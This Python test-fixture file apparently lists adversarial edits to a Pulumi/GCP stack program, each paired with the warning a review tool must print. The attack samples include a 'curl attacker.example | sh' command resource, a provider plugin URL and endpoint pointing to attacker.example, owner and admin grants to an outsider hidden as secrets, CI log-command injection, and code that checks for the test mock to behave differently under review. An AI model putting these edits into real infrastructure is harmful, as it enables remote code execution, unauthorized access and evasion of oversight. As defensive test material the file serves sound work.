"""Attacks by the stack program: what it does on the machine, and what Pulumi would do beside the inputs it shows."""

from typing import Final

from attacks.attack import (
    BUCKET,
    Attack,
    Edit,
    before_deploy,
    declare,
    edit,
    together,
    transform,
    write,
)
from attacks.environments import PROTECT

_LIFTED: Final = "**prod**: protection lifted"


def _bucket_option(statement: str) -> Edit:
    """Change an option of the bucket."""
    return transform(BUCKET, f"options.{statement}")


def _bucket_input(name: str, value: str, imports: str = "") -> Edit:
    """Change an input of the bucket."""
    return together(before_deploy(imports), transform(BUCKET, f'inputs["{name}"] = {value}'))


def _provider(name: str, value: str) -> Edit:
    """Configure Google's provider."""
    return transform("pulumi:providers:gcp", f'inputs["{name}"] = {value}')


def _component(*statements: str) -> Edit:
    """Change `type_` and `options` of the environment's component."""
    lines = "\n        ".join(statements)
    return before_deploy(_COMPONENT.replace("STATEMENTS", lines))


_COMPONENT: Final = """
import pulumi
create = pulumi.ComponentResource.__init__

def create_other(self, type_, name, inputs=None, options=None, *others):
    if type_ == "tpucfg:index:Environment":
        STATEMENTS
    create(self, type_, name, inputs, options, *others)

pulumi.ComponentResource.__init__ = create_other
"""
_CLAIM: Final = """
import json, os, sys
for name in sys.argv[2:]:
    line = json.dumps({"environment": name, "missing": "pulumi"})
    # The file of the results.
    os.write(3, line.encode() + b"\\n")
os._exit(0)
"""
_TWICE: Final = """
import pulumi_gcp
for role in ("roles/owner", "roles/viewer"):
    pulumi_gcp.projects.IAMMember("a", project="p", role=role, member="user:a@b.example")
"""
_IMPORTED: Final = """
import pulumi_gcp
pulumi_gcp.storage.Bucket(
    "b", name="payroll", project=settings.project, location="US-CENTRAL1", uniform_bucket_level_access=True,
    public_access_prevention="enforced", opts=pulumi.ResourceOptions(import_="payroll"),
)
"""
_DYNAMIC: Final = """
import pulumi.dynamic
class Own(pulumi.dynamic.Resource):
    pass
Own(pulumi.dynamic.ResourceProvider(), "d", {})
"""
_ASK: Final = """
from pulumi.runtime.mocks import MockMonitor
from pulumi.runtime.settings import get_monitor
"""
_SAME_URN_ELSEWHERE: Final = """
import pulumi_gcp
other = pulumi.ComponentResource("other:index:Place", "dev")
pulumi_gcp.storage.BucketIAMMember(
    "workload-on-data-my-project-dev-mnist-dev-us-central1", bucket=environment.bucket, role="roles/storage.admin",
    member="user:eve@attacker.example", opts=pulumi.ResourceOptions(parent=other),
)
"""

ATTACKS: Final = (
    # The program's process.
    Attack(
        "claims-that-packages-are-missing",
        together(
            edit("tpucfg.yaml", (PROTECT, "")),
            before_deploy(_CLAIM),
        ),
        (_LIFTED, "changes to resources are unknown"),
    ),
    Attack(
        "imports-a-missing-module-of-pulumi",
        together(edit("tpucfg.yaml", (PROTECT, "")), before_deploy("import pulumi_gcp.newer")),
        (_LIFTED, "changes to resources are unknown", ".newer'"),
    ),
    Attack(
        "misspells-an-import",
        before_deploy("import pulumi.rnutime"),
        ("changes to resources are unknown", "ModuleNotFoundError"),
        status=1,
    ),
    Attack(
        "prints-commands-to-the-log",
        together(
            edit("tpucfg.yaml", (PROTECT, "")),
            before_deploy(
                "print('::stop-commands::x\\n  ::add-mask::protection\\n##[add-mask]lifted')"
            ),
        ),
        (_LIFTED,),
        absent=("\n::", "\n  ::", "##["),
    ),
    Attack(
        "declares-a-resource-twice",
        declare(_TWICE),
        ("changes to resources are unknown", "projects.IAMMember a twice"),
        status=1,
    ),
    # Options.
    Attack(
        "changes-ignored",
        _bucket_option('ignore_changes = ["softDeletePolicy", "lifecycleRules"]'),
        ("ignores changes of `lifecycleRules, softDeletePolicy` (`ignoreChanges`)",),
    ),
    Attack(
        "existing-bucket-taken-over",
        declare(_IMPORTED),
        ("`storage.Bucket` `b` has `payroll`, whose effect this review cannot show",),
        status=0,
    ),
    Attack(
        "provider-downloaded-from-elsewhere",
        _bucket_option('plugin_download_url = "https://attacker.example/plugins"'),
        ("downloads its provider from `https://attacker.example/plugins`",),
    ),
    Attack(
        "older-provider",
        _bucket_option('version = "7.0.0"'),
        ("has `7.0.0`, which changes what an update does",),
        status=0,
    ),
    Attack(
        "changes-hidden-in-previews",
        _bucket_option('hide_diffs = ["lifecycleRules"]'),
        ("has `lifecycleRules`, which changes what an update does",),
    ),
    Attack(
        "replaced-when-labels-change",
        _bucket_option('replace_on_changes = ["labels"]'),
        ("is replaced if `labels` changes (`replaceOnChanges`)",),
    ),
    Attack(
        "replaced-by-a-trigger",
        _bucket_option('replacement_trigger = "1"'),
        ("`replacementTrigger`",),
    ),
    Attack(
        "deletion-skipped",
        together(
            transform(BUCKET, 'options.deleted_with = apis["storage"]'),
            before_deploy("apis = {}"),
            transform("gcp:projects/service:Service", "apis[args.name] = args.resource"),
        ),
        ("is never deleted itself if `storage` is (`deletedWith`)",),
    ),
    Attack(
        "hook-before-each-update",
        transform(BUCKET, 'options.hooks.before_create = [pulumi.ResourceHook("x", print)]'),
        ("has `before_create: x`, which changes what an update does",),
        status=0,
    ),
    Attack(
        "moved-without-an-alias",
        _component('type_ = "tpucfg:index:Environments"'),
        (
            "`storage.Bucket` `data-my-project-prod-mnist-prod-us-central1` (and 8 more resources) is deleted, ",
            "which Pulumi refuses",
        ),
        status=0,
    ),
    Attack(
        "moved-with-an-alias",
        _component(
            'type_ = "tpucfg:index:Environments"',
            'options.aliases = [pulumi.Alias(type_="x:y:Z", name="other")]',
        ),
        ("unless an alias matches its old place, it is deleted and created anew",),
    ),
    Attack(
        "grant-behind-one-of-the-same-name",
        declare(_SAME_URN_ELSEWHERE),
        ("`roles/storage.admin`", "`user:[redacted]@attacker.example`"),
        status=0,
    ),
    # What only an engine does.
    Attack(
        "transform-of-the-engine",
        before_deploy(
            "import pulumi\npulumi.runtime.register_resource_transform(lambda args: None)"
        ),
        ("declares `transform all resources` otherwise than the base",),
        status=0,
    ),
    Attack(
        "transform-of-a-resource",
        _bucket_option("transforms = [lambda args: None]"),
        (
            "declares `transform gcp:storage/bucket:Bucket data-my-project-dev-mnist-dev-us-central1` otherwise",
        ),
        status=0,
    ),
    Attack(
        "dynamic-provider",
        declare(_DYNAMIC),
        ("declares `dynamic ", "only an update shows the effect"),
        status=0,
    ),
    Attack(
        "component-of-another-package",
        declare('pulumi.ComponentResource("other:index:Everything", "e", {}, None, True)'),
        ("declares `component other:index:Everything e`",),
        status=0,
    ),
    Attack(
        "inputs-from-an-object",
        declare(
            "import pulumi_gcp\n"
            'content = pulumi_gcp.storage.get_bucket_object_content(bucket="b", name="n").content or "roles/viewer"\n'
            'pulumi_gcp.projects.IAMMember("a", project=settings.project, role=content, member="group:a@b.example")'
        ),
        ("declares `call gcp:storage/getBucketObjectContent:getBucketObjectContent`",),
        status=0,
    ),
    Attack(
        "inputs-from-another-stack",
        declare('pulumi.StackReference("organization/other/prod")'),
        ("declares `read pulumi:pulumi:StackReference organization/other/prod`",),
        status=0,
    ),
    # Providers.
    Attack(
        "endpoint-of-another-service",
        _provider("storage_custom_endpoint", "'https://attacker.example/'"),
        ("declares `storageCustomEndpoint of the provider gcp`",),
        status=0,
    ),
    Attack(
        "another-account",
        _provider("impersonate_service_account", "'owner@other.iam.gserviceaccount.com'"),
        ("declares `impersonateServiceAccount of the provider gcp`",),
        status=0,
    ),
    Attack(
        "another-token",
        _provider("access_token", "pulumi.Output.secret('abcdefgh-token')"),
        ("declares `accessToken of the provider gcp`",),
        status=0,
        absent=("abcdefgh-token",),
    ),
    Attack(
        "default-provider",
        _component("options.providers = None"),
        ("gets the provider",),
    ),
    # Secrets.
    Attack(
        "owner-wrapped-as-secret",
        declare(
            "import pulumi_gcp\n"
            'pulumi_gcp.projects.IAMMember("a", project=pulumi.Output.secret("payroll"), '
            'role=pulumi.Output.secret("roles/owner"), member=pulumi.Output.secret("user:eve@attacker.example"))'
        ),
        ("grants `roles/owner` on the project `payroll` to `user:[redacted]@attacker.example`",),
        absent=("eve@",),
        status=0,
    ),
    Attack(
        "public-bucket-wrapped-as-secret",
        _bucket_input("public_access_prevention", 'pulumi.Output.secret("inherited")'),
        ("`TPU091`", "`publicAccessPrevention`"),
        status=0,
    ),
    # Looking at the observer.
    Attack(
        "asks-whether-it-is-watched",
        _bucket_input("force_destroy", "not isinstance(get_monitor(), MockMonitor)", imports=_ASK),
        ("stack program changed in `stacks/__main__.py`",),
        status=0,
    ),
    Attack(
        "depends-on-the-environment",
        _bucket_input("storage_class", 'os.environ.get("CLASS", "STANDARD")', imports="import os"),
        ("stack program changed in `stacks/__main__.py`",),
        status=0,
    ),
    Attack(
        "hides-code-in-a-new-module",
        together(
            write("stacks/helper.py", "import subprocess\nsubprocess.run(['true'])\n"),
            before_deploy("import helper"),
        ),
        ("stack program changed in `stacks/__main__.py, stacks/helper.py`",),
        status=0,
    ),
    Attack(
        "takes-the-place-of-a-module",
        write("stacks/yaml.py", "print('only in an update')\n"),
        ("stack program changed in `stacks/yaml.py`", "changes to resources are unknown"),
        status=1,
    ),
    Attack(
        "command-on-the-machine-of-the-update",
        declare(
            'pulumi.CustomResource("command:local:Command", "c", {"create": "curl attacker.example | sh"})'
        ),
        ("`c` is of the type `command:local:Command`",),
        status=0,
    ),
    Attack(
        "composes-the-name-of-the-mocks",
        declare('import pulumi.runtime as r\ngetattr(r, "is_" + "dry_run")()'),
        ("stack program changed in `stacks/__main__.py`",),
        status=0,
    ),
)
